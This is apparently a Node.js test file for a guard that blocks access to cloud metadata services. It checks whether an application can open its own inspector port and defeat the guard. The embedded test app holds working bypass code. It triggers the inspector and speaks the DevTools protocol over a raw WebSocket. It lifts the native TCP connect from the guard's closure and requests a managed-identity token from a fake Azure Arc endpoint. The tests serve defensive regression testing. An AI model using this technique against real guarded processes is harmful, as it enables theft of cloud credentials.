/**
 * An application opening its own inspector port: `process._debugProcess(process.pid)`, `process.kill(process.pid,
 * 'SIGUSR1')` or a child process sending SIGUSR1 makes Node listen for inspector sessions on loopback. The
 * application then connects to that port (a WebSocket over net, which the guard lets through: it is no metadata
 * service), reads the TCP handle's original `connect` out of the guard's closure (`Runtime.getProperties` on its
 * `[[Scopes]]`) and asks the managed identity endpoint on loopback (Azure Arc, 127.0.0.1:40342, where the fake
 * metadata service of this test listens) for a token with it. A fresh process runs the built guard the documented
 * way (`--import …/guard/register`); unguarded the attack gets the token, guarded no port opens and the signal is
 * recorded.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type RunningFakeImds, startFakeImds } from '../fake-imds/server.ts';
import { privateTempDir } from './_private-dir.ts';

const REGISTER = new URL('../../dist/guard/register.js', import.meta.url);
const GUARD_MODULE = new URL('../../dist/guard/index.js', import.meta.url);
const why = existsSync(REGISTER) ? null : 'dist/ is not built (npm run build)';
if (why && process.env.CI === 'true') throw new Error(`inspector port tests cannot run under CI: ${why}`);

const TOKEN_PATH = '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/';

/** Opens the port (argv[2] says how), attacks through it, prints what it got: never the token itself. */
const APP = `
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import inspector from 'node:inspector';
import net from 'node:net';

const how = process.argv[2];
const out = {};
const done = () => { console.log(JSON.stringify(out)); process.exit(0); };
setTimeout(() => { out.timedOut = true; done(); }, 20_000).unref();
// A free port instead of 9229, which another process may hold (unless a port is open already: url() would then
// report the new number).
if (!inspector.url()) process.debugPort = 0;
const ask = () => new Promise((r) => http.get('http://127.0.0.1:40342${TOKEN_PATH}', { headers: { Metadata: 'true' } }, (res) => { res.resume(); r('status ' + res.statusCode); }).on('error', (e) => r(e.code)));
out.before = await ask();
if (how === 'removeListeners') process.removeAllListeners('SIGUSR1');
try {
  if (how === 'debugProcess') process._debugProcess(process.pid);
  else if (how === 'child') spawnSync(process.execPath, ['-e', 'process.kill(Number(process.argv[1]), "SIGUSR1")', String(process.pid)]);
  else if (how !== 'none') process.kill(process.pid, 'SIGUSR1');
} catch (e) { out.trigger = e.code ?? String(e); }
let url;
for (let i = 0; i < 40 && !(url = inspector.url()); i++) await new Promise((r) => setTimeout(r, 25));
out.inspector = url ? 'open' : 'closed';
if (url && how !== 'openOnly') {
  // A minimal WebSocket client (RFC 6455): masked text frames out, text frames in.
  const u = new URL(url);
  const s = net.connect(Number(u.port), u.hostname);
  await new Promise((r, j) => s.once('connect', r).once('error', j));
  s.write('GET ' + u.pathname + ' HTTP/1.1\\r\\nHost: ' + u.host + '\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: ' + randomBytes(16).toString('base64') + '\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n');
  // Frames only after the handshake's answer: the inspector drops bytes that arrive with the upgrade request.
  let buf = Buffer.alloc(0); let upgraded = false; const waiting = new Map(); let id = 0; let onUpgrade;
  const handshake = new Promise((r) => (onUpgrade = r));
  s.on('data', (d) => {
    buf = Buffer.concat([buf, d]);
    if (!upgraded) { const e = buf.indexOf('\\r\\n\\r\\n'); if (e < 0) return; upgraded = true; buf = buf.subarray(e + 4); onUpgrade(); }
    for (;;) {
      if (buf.length < 2) return;
      let len = buf[1] & 0x7f, off = 2;
      if (len === 126) { if (buf.length < 4) return; len = buf.readUInt16BE(2); off = 4; }
      else if (len === 127) { if (buf.length < 10) return; len = Number(buf.readBigUInt64BE(2)); off = 10; }
      if (buf.length < off + len) return;
      const msg = JSON.parse(buf.subarray(off, off + len).toString('utf8')); buf = buf.subarray(off + len);
      if (msg.id !== undefined && waiting.has(msg.id)) { waiting.get(msg.id)(msg.result); waiting.delete(msg.id); }
    }
  });
  const send = (method, params) => new Promise((r) => {
    const n = ++id; waiting.set(n, r);
    const p = Buffer.from(JSON.stringify({ id: n, method, params }));
    const mask = randomBytes(4);
    const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0x80 | 126, p.length >> 8, p.length & 255]);
    for (let i = 0; i < p.length; i++) p[i] ^= mask[i & 3];
    s.write(Buffer.concat([head, mask, p]));
  });
  await handshake;
  // Every function value in the closures of the guarded connect that is a native connect: Node's original.
  globalThis.guardedConnect = process.binding('tcp_wrap').TCP.prototype.connect;
  const fn = await send('Runtime.evaluate', { expression: 'globalThis.guardedConnect' });
  const props = await send('Runtime.getProperties', { objectId: fn.result.objectId, ownProperties: true });
  const scopes = props.internalProperties.find((p) => p.name === '[[Scopes]]');
  const list = await send('Runtime.getProperties', { objectId: scopes.value.objectId, ownProperties: true });
  for (const sc of list.result) {
    const vars = await send('Runtime.getProperties', { objectId: sc.value.objectId, ownProperties: true });
    for (const v of vars.result)
      if (v.value?.type === 'function' && /^function connect\\(\\) \\{ \\[native code\\] \\}$/.test(v.value.description))
        await send('Runtime.callFunctionOn', { objectId: v.value.objectId, functionDeclaration: 'function () { globalThis.original = this; }' });
  }
  s.destroy();
  out.tookOriginal = typeof globalThis.original === 'function';
}
if (globalThis.original) {
  const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
  out.token = await new Promise((resolve) => {
    const h = new TCP(constants.SOCKET);
    const req = new TCPConnectWrap();
    req.oncomplete = (status) => {
      if (status !== 0) return resolve('status ' + status);
      const sock = new net.Socket({ handle: h, readable: true, writable: true });
      let body = '';
      sock.on('data', (d) => (body += d)).on('end', () => resolve(body.includes('access_token') ? 'obtained' : 'none')).on('error', (e) => resolve(e.code));
      sock.write('GET ${TOKEN_PATH} HTTP/1.1\\r\\nHost: 127.0.0.1:40342\\r\\nMetadata: true\\r\\nConnection: close\\r\\n\\r\\n');
    };
    const err = Reflect.apply(globalThis.original, h, [req, '127.0.0.1', 40342]);
    if (err !== 0) resolve('status ' + err);
  });
}
done();
`;

interface Outcome {
  before?: string;
  trigger?: string;
  inspector?: string;
  tookOriginal?: boolean;
  token?: string;
  timedOut?: boolean;
}

/** Node with `args`; the outcome line the app printed, or the signal that ended it. */
function run(
  args: string[],
  env: Record<string, string>,
  cwd?: string,
): Promise<{ out: Outcome | null; signal: string | null; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      args,
      { env: { ...process.env, ...env }, timeout: 60_000, ...(cwd ? { cwd } : {}) },
      (err, stdout, stderr) => {
        const line = stdout.trim().split('\n').at(-1) ?? '';
        resolve({
          out: line.startsWith('{') ? (JSON.parse(line) as Outcome) : null,
          signal: (err as { signal?: string } | null)?.signal ?? null,
          stderr,
        });
      },
    );
  });
}

function findingsIn(file: string): Array<{ rule: { id: string }; decision: string; description?: string }> {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l));
}

describe('an inspector port opened by the application', { skip: why ?? false, timeout: 300_000 }, () => {
  let dir: string;
  let imds: RunningFakeImds;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'imdsguard-inspector-port-'));
    writeFileSync(join(dir, 'app.mjs'), APP);
    try {
      imds = await startFakeImds({ host: '127.0.0.1', port: 40342 });
    } catch (e) {
      throw new Error(`the fake metadata service cannot listen on 127.0.0.1:40342: ${(e as Error).message}`);
    }
  });
  after(async () => {
    await imds?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const app = () => join(dir, 'app.mjs');

  test('a port open before the guard (--inspect): the attack reads the token through it, recorded at installation', async () => {
    // Out of reach, and the proof that the attack below works against this guard: only the port is missing there.
    const report = join(dir, 'findings-inspect.jsonl');
    const r = await run(['--inspect=0', '--import', REGISTER.href, app(), 'none'], {
      IMDSGUARD_GUARD_MODE: 'block',
      IMDSGUARD_GUARD_REPORT: report,
    });
    assert.equal(r.out?.before, 'ERR_IMDSGUARD_BLOCKED', `${JSON.stringify(r.out)} ${r.stderr}`);
    assert.equal(r.out?.inspector, 'open', JSON.stringify(r.out));
    assert.equal(r.out?.tookOriginal, true, JSON.stringify(r.out));
    assert.equal(r.out?.token, 'obtained', JSON.stringify(r.out));
    assert.deepEqual(
      findingsIn(report)
        .filter((f) => f.rule.id === 'guard-inspector-port')
        .map((f) => f.decision),
      ['audit'],
    );
  });

  for (const how of ['debugProcess', 'kill', 'child']) {
    test(`block mode: ${how} opens no port, the signal is recorded, no token`, async () => {
      const report = join(dir, `findings-${how}.jsonl`);
      const r = await run(['--import', REGISTER.href, app(), how], {
        IMDSGUARD_GUARD_MODE: 'block',
        IMDSGUARD_GUARD_REPORT: report,
      });
      assert.ok(r.out, `no outcome: ${r.stderr}`);
      assert.equal(r.out.before, 'ERR_IMDSGUARD_BLOCKED', JSON.stringify(r.out));
      assert.equal(r.out.inspector, 'closed', JSON.stringify(r.out));
      assert.equal(r.out.token, undefined, JSON.stringify(r.out));
      const port = findingsIn(report).filter((f) => f.rule.id === 'guard-inspector-port');
      assert.deepEqual(
        port.map((f) => f.decision),
        ['deny'],
      );
    });
  }

  test("block mode: the guard's listener removed, SIGUSR1 ends the process instead of opening a port", async () => {
    const r = await run(['--import', REGISTER.href, app(), 'removeListeners'], {
      IMDSGUARD_GUARD_MODE: 'block',
      IMDSGUARD_GUARD_REPORT: join(dir, 'findings-removed.jsonl'),
    });
    assert.equal(r.signal, 'SIGUSR1', `${JSON.stringify(r.out)} ${r.stderr}`);
    assert.equal(r.out, null);
  });

  test('monitor mode: the port opens as Node opens it on the signal, and is recorded', async () => {
    const report = join(dir, 'findings-monitor.jsonl');
    const r = await run(['--import', REGISTER.href, app(), 'openOnly'], {
      IMDSGUARD_GUARD_MODE: 'monitor',
      IMDSGUARD_GUARD_REPORT: report,
    });
    assert.equal(r.out?.before, 'status 200', JSON.stringify(r.out));
    assert.equal(r.out?.inspector, 'open', JSON.stringify(r.out));
    assert.deepEqual(
      findingsIn(report)
        .filter((f) => f.rule.id === 'guard-inspector-port')
        .map((f) => f.decision),
      ['audit'],
    );
  });

  test('a port that opened after installation: in block mode no caller is trusted, an allowlisted one neither', async () => {
    // The allowlisted package must count as installed: not under a world-writable directory.
    const home = privateTempDir('inspector-port-');
    try {
      mkdirSync(join(home, 'node_modules', 'arc-client'), { recursive: true });
      writeFileSync(
        join(home, 'node_modules', 'arc-client', 'package.json'),
        JSON.stringify({ name: 'arc-client', version: '1.0.0', main: 'index.js' }),
      );
      writeFileSync(
        join(home, 'node_modules', 'arc-client', 'index.js'),
        `const http = require('node:http');
exports.token = () => new Promise((r) => http.get('http://127.0.0.1:40342${TOKEN_PATH}', { headers: { Metadata: 'true' } }, (res) => { res.resume(); r('status ' + res.statusCode); }).on('error', (e) => r(e.code)));
`,
      );
      writeFileSync(
        join(home, 'main.mjs'),
        `import { installGuard } from ${JSON.stringify(GUARD_MODULE.href)};
import inspector from 'node:inspector';
import { createRequire } from 'node:module';
const findings = [];
const options = (mode) => ({ mode, report: 'none', allow: [{ package: 'arc-client', providers: ['azure'] }], onFinding: (f) => findings.push(f) });
const guard = installGuard(options('monitor'));
const { token } = createRequire(import.meta.url)('arc-client');
const out = { before: await token() };
process.debugPort = 0;
process.kill(process.pid, 'SIGUSR1');
for (let i = 0; i < 40 && !inspector.url(); i++) await new Promise((r) => setTimeout(r, 25));
out.inspector = inspector.url() ? 'open' : 'closed';
guard.reconfigure(options('block'));
out.after = await token();
const last = findings.at(-1);
out.finding = last.rule.id + ' ' + last.decision + ': ' + last.description;
inspector.close();
console.log(JSON.stringify(out));
`,
      );
      const r = await run([join(home, 'main.mjs')], {}, home);
      const out = r.out as Record<string, string> | null;
      assert.equal(out?.before, 'status 200', `${JSON.stringify(out)} ${r.stderr}`);
      assert.equal(out?.inspector, 'open', JSON.stringify(out));
      assert.equal(out?.after, 'ERR_IMDSGUARD_BLOCKED', JSON.stringify(out));
      assert.match(out?.finding ?? '', /^guard-metadata-connection deny: an inspector port was opened/);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });
});
